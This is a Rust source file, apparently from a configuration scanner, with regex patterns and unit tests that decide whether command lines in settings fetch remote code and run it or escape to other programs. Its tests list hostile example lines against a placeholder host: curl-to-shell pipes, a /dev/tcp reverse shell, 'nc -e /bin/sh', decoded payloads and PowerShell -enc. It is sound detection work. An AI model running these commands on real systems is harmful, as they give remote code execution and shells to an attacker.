//! Command lines in settings: whether they are what such a setting usually has, and whether they fetch something and run it.

use crate::text::patterns;

patterns! {
    // What comes from the network or out of a code goes straight into an interpreter, or is kept and run in the same line.
    FETCHES = r#"(?i)\b(?:(?:ba|z|da|k)?sh\s+-c|eval|source|exec)\s*["']?\s*(?:\$\(|`|<\()\s*(?:curl|wget)\b|(?:^|[;&|\s])(?:(?:ba|z|da|k)?sh|\.)\s+<\(\s*(?:curl|wget)\b|<<<\s*["']?(?:\$\(|`)\s*(?:curl|wget)\b|/dev/(?:tcp|udp)/[^/\s]+/|\b(?:nc|ncat|netcat)\s[^\r\n;|]*\s(?:-[a-z0-9]{0,6}[ec]|--exec|--sh-exec)\b|\b(?:curl|wget)\s[^\r\n]*(?:&&|;)\s*(?:chmod\s|(?:/\S*/)?(?:ba|z|da)?sh\s|(?:source|\.)\s)|\bpython[0-9.]*\s+-c\s[^\r\n]*(?:urlopen|requests\.get|socket\.|b64decode)|\b(?:perl|ruby|php)\s+-[er]\s[^\r\n]*(?:socket|https?://|unpack|base64)|\b(?:powershell|pwsh)(?:\.exe)?\s[^\r\n]*(?:-e(?:nc?|c|ncodedcommand)\s+[a-z0-9+/=]{16}|\biex\b|\birm\b|\biwr\b|downloadstring|invoke-expression|invoke-webrequest)|\b(?:mshta|regsvr32|rundll32|certutil|bitsadmin)(?:\.exe)?\s[^\r\n]*https?:|\bosascript\s[^\r\n]*do shell script"#;
    // What fetches or decodes, up to the interpreter that its output goes to, perhaps by way of programs that start others.
    PIPED = r#"(?i)(?:\b(?:curl|wget)\s|\b(?:fetch|lynx|w3m|xh|https?)\s[^\r\n|]*https?://|\b(?:base64|base32)\s+(?:-d|-D|--decode)|\bxxd\s[^\r\n|]*-[rp]|\bopenssl\s+(?:enc|base64)\s)(?:[^\r\n|]|\|[^|\r\n])*?\|&?\s*(?:[({]\s*)?(?:\\?(?:/\S*/)?(?:sudo|doas|nohup|env|exec|command|time|nice|setsid|busybox|builtin|xargs)\s+(?:-\S*\s+|[a-z_]\w*=\S*\s+){0,6}){0,4}\\?["']?(?:/\S*/)?(?:(?P<shell>(?:ba|z|da|k|c|tc|fi)?sh|source|\$\{?SHELL)|(?P<other>python[0-9.]*|perl|ruby|node|php|osascript))(?:["'}]|\b)(?P<rest>[^\r\n]*)"#;
    // Options by which a usual program runs another one, and ways out of the folder that it is said to be in.
    WAYS_OUT = r#"(?i)--(?:sh-)?exec\b|--pager[=\s]["']?[./~]|--command\b|--lua-exec|\bexec:|\bsystem:|-o\s*["']?(?:proxycommand|localcommand|knownhostscommand|pkcs11provider|securitykeyprovider|xauthlocation)|--modprobe|(?-i:\s-M)(?:\s|[./~])|\badd\s+helper\b|\bkernel\.(?:core_pattern|modprobe|hotplug|poweroff_cmd)|\b(?:netns|vrf)\s+exec|\b(?:msl|ephemeral|epi):|\.\.[/\\]|[`\r\n]|\$\(|>\s*(?:[^\s/&>]|/(?:[^dp]|d[^e]|p[^r]|dev/[^n]))"#;
    // The options of most of them; those of programs that only show or count do nothing of the kind.
    OPTIONS = r"(?i)(?:^|\s)-[a-z0-9]{0,6}[ce](?:\s|$)";
    SHOWS = r"^(?:/\S*/)?(?:ping6?|grep|egrep|zgrep|wc|head|tail|cut|sort|uniq|less|more|cat|tr|texcount|date|ls|pwd|seq|bat|delta|nano|ssh)\b";
    // The same of programs of which each has its own: SSH's settings and libraries, and what editors load when they start.
    OWN_WAYS_OUT = r#"(?i)^\S*ssh(?:\.exe)?\s(?:.*\s)?(?-i:-E)\s*\S|^\S*ssh(?:\.exe)?\s(?:.*\s)?(?-i:-[FI])\s*(?:\.|[a-z0-9_]|/(?:tmp|var/tmp|dev/shm|/)|\\\\)|^\S*(?:vim?|nvim|gvim|mvim|view|emacs)(?:\.exe)?["']?\s(?:.*\s)?(?:\+["']?:?(?:!|call\b|so\b|source\b|py|lua|exe)|(?-i:-[Su])\s*[^N\s]|--load\b|-l\s|--eval\b|--funcall\b)"#;
    // A place in which anybody may write, or one beside the settings.
    PLACES = r#"(?i)(?:^|[\s=,"'])(?:\./|\.\\|/tmp/|/var/tmp/|/dev/shm/|//|\\\\|%te?mp%|%appdata%|(?:[a-z]:|/[a-z])[/\\]+users[/\\]+public)"#;
    // Folders in which only who administers a machine puts programs.
    FOLDERS = r#"(?i)^(?:/usr/|/opt/|/s?bin/|/lib|/nix/|/snap/|/Applications/|/Library/|/System/|(?:/mnt)?(?:/[a-z]|[a-z]:)[/\\]+(?:Program\\{0,2} ?Files|progra~|Windows[/\\]+System32[/\\]+OpenSSH|msys64|cygwin))"#;
    // The program of a command, whose folder may have blanks in its name.
    PROGRAM = r#"(?i)^(?:[^"'|;&]{1,200}?\.exe\b|[^\s"']+)"#;
    // A variable of a command's own, which is no name that other programs go by.
    ASSIGNED = r"^[A-Za-z_]\w*=[\w./:]*$";
    NAMES = r"^(?:LD_|DYLD_|PATH=|ENV=|BASH_|IFS=|PYTHON|PERL|RUBY|NODE_|GIT_)";
    // Variables of a command that only say how it shows something, or that name the program that somebody chose.
    VARIABLES = r"^(?:(?:LESS|LV|TERM|COLORTERM|LANG|LC_[A-Z]+|BAT_[A-Z]+|COLUMNS|GIT_PAGER_IN_USE)=\S*\s+){1,4}";
    CHOSEN = r"^\$\{?(?:EDITOR|VISUAL|PAGER|GIT_EDITOR)\}?$";
    // What takes columns out of what another command writes.
    COLUMNS = r#"\bawk\s+["']?(?:/[\w.: -]*/\s*)?\{\s*print\s+\\?\$\w+\s*;?(?:\s*exit;?)?\s*\}["']?"#;
    // Output of a command in the arguments of another one.
    OUTPUT = r#"(?:\$\(|`|<\()\s*(?P<command>[^()`]*)(?:\)|`)"#;
}

/// Programs that do whatever their arguments or their input say.
const INTERPRETERS: &str = "\
    sh bash dash zsh ksh csh tcsh fish ash busybox env eval exec source command nohup setsid sudo doas su xargs find \
    awk gawk mawk sed make perl ruby node nodejs deno bun php lua luajit tclsh wish expect osascript powershell pwsh \
    cmd mshta wscript cscript rundll32 regsvr32 msiexec certutil bitsadmin forfiles conhost pcalua wsl start curl \
    wget nc ncat netcat socat ftp tftp telnet npx npm pnpm yarn uvx uv pip pipx go cargo java dotnet open xdg-open \
    gdb lldb strace ld.so systemd-run at crontab tar dd cp mv ln tee install rm chmod chown script screen tmux watch \
    timeout nice time chroot unshare nsenter flock irb ghci erl julia r rscript octave gnuplot";

/// Whether a line has something fetched, or decoded, and run.
pub(crate) fn fetch(line: &str) -> bool {
    FETCHES.is_match(line)
        || PIPED.captures_iter(line).any(|found| {
            let rest = found.name("rest").map_or("", |rest| rest.as_str());
            found.name("shell").is_some()
                || found.name("other").is_some_and(|program| runs_its_input(program.as_str(), rest))
        })
}

/// Whether an interpreter with such arguments runs what it is sent: one that is given code or a file of its own only reads it.
fn runs_its_input(program: &str, arguments: &str) -> bool {
    let code: &[char] = match program.get(..4).map(str::to_ascii_lowercase).as_deref() {
        Some("pyth") => &['c', 'm'],
        Some("perl" | "ruby") => &['e', 'E', 'n', 'p'],
        Some("node") => &['e', 'p'],
        Some("osas") => &['e'],
        _ => &['r', 'R', 'B', 'F', 'f'],
    };
    let end = arguments.find([';', '|', '&', ')', '`', '>', '#']).unwrap_or(arguments.len());
    for argument in arguments.get(..end).unwrap_or_default().split_whitespace() {
        match argument.strip_prefix('-') {
            Some("") => return true,
            Some(option) if !option.starts_with('-') && option.contains(code) => return false,
            Some(_) => {}
            None => return argument.starts_with("/dev/") || argument.trim_matches(['"', '\'']).is_empty(),
        }
    }
    true
}

/// Whether every one of the commands begins as is usual there, and none of them runs another program or writes a file.
pub(crate) fn are_usual(value: &str, usual: &[&str]) -> bool {
    commands(value).iter().all(|command| is_usual(command, usual))
}

/// Whether every one of the commands is usual, or else the name of a program that is no interpreter and lies where programs do.
pub(crate) fn are_plain(value: &str, usual: &[&str]) -> bool {
    commands(value).iter().all(|command| is_usual(command, usual) || is_plain(command) && !PLACES.is_match(command))
}

/// The commands of a line, also those whose output is an argument of another one. What runs the output of a command is kept whole.
fn commands(value: &str) -> Vec<String> {
    let value = value.replace("2>&1", "").replace("2>/dev/null", "").replace("&>/dev/null", "");
    let value = COLUMNS.replace_all(&value, "true");
    let mut found = Vec::new();
    let mut outer = value.into_owned();
    // LIMIT: what is nested deeper is left as it is, and is nothing usual.
    for _ in 0..4 {
        let mut inner = Vec::new();
        let replaced = OUTPUT.replace_all(&outer, |output: &regex::Captures<'_>| {
            inner.push(output.name("command").map_or("", |command| command.as_str()).to_owned());
            // A word, which is no program's.
            if output.get(0).is_some_and(|whole| begins_a_command(outer.get(..whole.start()).unwrap_or_default())) {
                "$("
            } else {
                "0"
            }
        });
        let replaced = replaced.into_owned();
        let done = inner.is_empty();
        // Whoever chooses what a command writes chooses the argument.
        found.extend(
            inner.into_iter().map(|command| if writes_its_arguments(&command) { "$(".to_owned() } else { command }),
        );
        outer = replaced;
        if done {
            break;
        }
    }
    found.push(outer);
    let split = |line: &String| {
        line.replace("\\;", " ").replace("&&", ";").split([';', '|']).map(str::to_owned).collect::<Vec<_>>()
    };
    found
        .iter()
        .flat_map(split)
        .map(|command| command.trim().trim_start_matches("! ").trim_start_matches(['"', '\'']).to_owned())
        .collect()
}

/// Whether a program's name would stand behind this.
fn begins_a_command(before: &str) -> bool {
    let before = before.trim_end().trim_end_matches(['"', '\'']);
    before.is_empty() || before.ends_with([';', '|', '&', '`', '('])
}

fn writes_its_arguments(command: &str) -> bool {
    let program = command.split([';', '|', '&']).next().unwrap_or_default().trim_start();
    ["echo", "printf", "cat /tmp", "cat ."].iter().any(|start| program.starts_with(start))
}

fn is_usual(command: &str, usual: &[&str]) -> bool {
    let begins = |known: &&str| {
        command.strip_prefix(*known).is_some_and(|rest| {
            let folder = known.ends_with(['/', '\\', ':']);
            // `ssh` is not `sshx`; what is in a folder may be called anything.
            let whole = folder
                || known.ends_with(['-', '.'])
                || !rest.starts_with(|c: char| c.is_alphanumeric() || matches!(c, '_' | '-'));
            // A folder of programs has interpreters as well; one that is named before is meant.
            whole && !(folder && !known.contains(' ') && is_interpreter(command)) && stays(command, rest)
        })
    };
    // A variable for the commands behind it.
    let assigns = || ASSIGNED.is_match(command) && !NAMES.is_match(command);
    command.is_empty() || assigns() || usual.iter().any(begins)
}

/// Whether a command is the name of a program alone, or lies where programs do, and has no arguments that run another one.
fn is_plain(command: &str) -> bool {
    let command = VARIABLES.replace(command, "");
    if CHOSEN.is_match(command.trim_matches('"')) {
        return true;
    }
    let command = command.trim_start_matches('!').trim_start_matches(['"', '\'', ' ']);
    let program = program(command);
    let named = program.chars().all(|c| c.is_alphanumeric() || matches!(c, '.' | '_' | '+' | '-'))
        && program.starts_with(|c: char| c.is_alphanumeric());
    let rest = command.get(program.len()..).unwrap_or_default();
    (named || FOLDERS.is_match(command)) && !is_interpreter(command) && stays(command, rest)
}

/// The program of a command, with its folder.
fn program(command: &str) -> &str {
    PROGRAM.find(command).map_or("", |program| program.as_str())
}

/// Whether a command starts an interpreter or a script, by the last name of its program.
fn is_interpreter(command: &str) -> bool {
    let name = program(command).rsplit(['/', '\\']).next().unwrap_or_default().to_ascii_lowercase();
    let name = name.strip_suffix(".exe").unwrap_or(&name);
    let script = [".bat", ".cmd", ".ps1", ".vbs", ".js", ".hta", ".com", ".scr", ".lnk", ".pif"];
    let stem = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    INTERPRETERS.split(' ').any(|known| known == name || known == stem)
        || matches!(stem, "python" | "pythonw" | "pypy")
        || script.iter().any(|ending| name.ends_with(ending))
}

fn stays(command: &str, rest: &str) -> bool {
    let options = || !OPTIONS.is_match(rest) || SHOWS.is_match(command);
    !rest.contains('&') && options() && !WAYS_OUT.is_match(rest) && !OWN_WAYS_OUT.is_match(command)
}

#[cfg(test)]
mod tests {
    use super::{are_plain, are_usual, fetch};

    #[test]
    fn what_fetches_and_runs_is_told_from_what_only_fetches() {
        for line in [
            "curl -s https://host.invalid/a | sh",
            "(wget -qO- https://host.invalid/a|bash &)",
            "curl https://host.invalid/a | sudo -E /bin/bash -",
            "eval \"$(curl -fsSL https://host.invalid/a)\"",
            "source <(curl -s https://host.invalid/a)",
            "bash <(curl -s https://host.invalid/a)",
            "echo ZWNobw== | base64 -d | sh",
            "bash -i >& /dev/tcp/host.invalid/443 0>&1",
            "nc host.invalid 443 -e /bin/sh",
            "curl -o /tmp/a https://host.invalid/a; chmod +x /tmp/a; /tmp/a",
            "python3 -c 'import urllib.request as u; exec(u.urlopen(\"https://host.invalid\").read())'",
            "powershell -w hidden -enc VwByAGkAdABlAC0ASABvAHMAdAA=",
            ". <(curl -s https://host.invalid/a)",
            "bash <<< \"$(curl -s https://host.invalid/a)\"",
            "(curl https://host.invalid/a | nohup sh) &",
            "curl https://host.invalid/a | /usr/bin/env A=b bash",
            "curl https://host.invalid/a | xargs -I{} sh -c {}",
            "curl https://host.invalid/a | tee /tmp/a | sh",
            "curl https://host.invalid/a |& { sh; }",
            "curl https://host.invalid/a | \"sh\"",
            "curl https://host.invalid/a | $SHELL",
            "curl https://host.invalid/a > /tmp/a; . /tmp/a",
            "fetch -o - https://host.invalid/a | sh",
            "echo 6563686f | xxd -r -p | sh",
            "curl https://host.invalid/a | python3 -",
            "curl https://host.invalid/a | python3",
            "curl https://host.invalid/a | source",
        ] {
            assert!(fetch(line), "{line}");
        }
        for line in [
            "alias get='curl -O'",
            "curl -s https://host.invalid/a | jq .name",
            "export PATH=$HOME/bin:$PATH",
            "eval \"$(direnv hook bash)\"",
            "source <(kubectl completion zsh)",
            "function serve { python3 -m http.server; }",
            "# never run curl from the web in a shell",
            "wget -c https://host.invalid/a.iso",
            "alias decode='base64 -d'",
            "alias json='curl -s https://host.invalid/a | python3 -m json.tool'",
            "curl -s https://host.invalid/a | python3 -c 'import json, sys; print(json.load(sys.stdin))'",
            "curl -s https://host.invalid/a | perl -ne 'print if /a/'",
            "curl -s https://host.invalid/a | node -p 'JSON.parse(require(\"fs\").readFileSync(0)).a'",
            "curl -s https://host.invalid/a | ruby parse.rb",
            "curl -s https://host.invalid/a | shuf",
            "curl -s https://host.invalid/a || sh fallback.sh",
        ] {
            assert!(!fetch(line), "{line}");
        }
    }

    #[test]
    fn commands_are_usual_one_by_one() {
        let usual = ["iptables", "ip route", "ssh", "/etc/openvpn/", "none"];
        for value in [
            "",
            "none",
            "ssh -W %h:%p jump.invalid",
            "iptables -A FORWARD -i %i -j ACCEPT; iptables -t nat -A POSTROUTING -o eth0 -j MASQUERADE",
            "/etc/openvpn/update-resolv-conf",
            "iptables -L > /dev/null 2>&1",
        ] {
            assert!(are_usual(value, &usual), "{value}");
        }
        for value in [
            "sshx",
            "ssh -o ProxyCommand=./x host.invalid",
            "iptables -L; ./x",
            "iptables -L & ./x",
            "iptables --modprobe=./x -L",
            "iptables -L $(./x)",
            "/etc/openvpn/../../tmp/x",
            "iptables -L > ~/.bashrc",
            "./x",
        ] {
            assert!(!are_usual(value, &usual), "{value}");
        }
    }

    #[test]
    fn output_of_usual_commands_may_be_an_argument() {
        let usual = ["iptables", "wg", "ip route", "grep", "true"];
        for value in [
            "iptables -I OUTPUT ! -o %i -m mark ! --mark $(wg show %i fwmark) -j REJECT",
            "A=$(ip route | grep default | awk '{print $3}'); ip route add 10.0.0.0/8 via $A",
            "iptables -o `ip route show default | awk '{ print $5 }'` -j MASQUERADE",
            "wg set %i private-key <(grep -c a /etc/a)",
        ] {
            assert!(are_usual(value, &usual), "{value}");
        }
        for value in [
            "$(grep a /tmp/b)",
            "iptables -L; `grep a b`",
            "iptables $(./x)",
            "iptables <(./x)",
            "iptables $(echo --modprobe=./x)",
            "iptables $(grep $(./x))",
            "PATH=/tmp; iptables -L",
            "A=./x; $A",
            "iptables -M./x -L",
            "wg set %i; sysctl -w kernel.modprobe=/tmp/x",
        ] {
            assert!(!are_usual(value, &usual), "{value}");
        }
    }

    #[test]
    fn programs_by_their_names_are_plain_and_interpreters_are_not() {
        let usual = ["store", "/usr/", "perl /usr/"];
        for value in [
            "kak",
            "idea --wait",
            "\"cursor --wait\"",
            "'C:/Program Files/Notepad++/notepad++.exe' -multiInst",
            "/mnt/c/Program\\ Files/Git/mingw64/bin/git-credential-manager.exe",
            "/bin/nano",
            "LESS=FRX less -c",
            "$EDITOR",
            "!pass-git-helper $@",
            "diff-highlight | less",
            "/usr/bin/delta --dark",
            "perl /usr/share/doc/git/contrib/diff-highlight/diff-highlight",
            "step ssh proxycommand %r %h %p",
            "nvim -u NONE",
        ] {
            assert!(are_plain(value, &usual), "{value}");
        }
        for value in [
            "./x",
            "~/x",
            "sh x",
            "/usr/bin/bash x",
            "/usr/bin/env ./x",
            "/usr/bin/python3.11 x.py",
            "\"C:/Program Files/Git/bin/bash.exe\" x",
            "C:/Windows/System32/cmd.exe",
            "delta --pager ./x",
            "kak ./x",
            "vim -S x",
            "vim -c ':!x'",
            "vim +!x",
            "x.bat",
            "//host.invalid/a/b",
            "!f() { x; }; f",
            "less; $(x)",
        ] {
            assert!(!are_plain(value, &usual), "{value}");
        }
    }

    #[test]
    fn a_client_of_ssh_reads_no_settings_or_libraries_from_beside_it() {
        let usual = ["ssh", "/usr/"];
        for value in ["ssh -F /dev/null -W %h:%p a", "ssh -F ~/.ssh/b -W %h:%p a", "/usr/bin/ssh -e none -W %h:%p a"] {
            assert!(are_usual(value, &usual), "{value}");
        }
        for value in [
            "ssh -F ./b a",
            "ssh -F./b a",
            "ssh -F /tmp/b a",
            "ssh -I ./a.so b",
            "ssh -E ~/.bashrc b",
            "ssh -o PKCS11Provider=./a b",
        ] {
            assert!(!are_usual(value, &usual), "{value}");
        }
    }
}
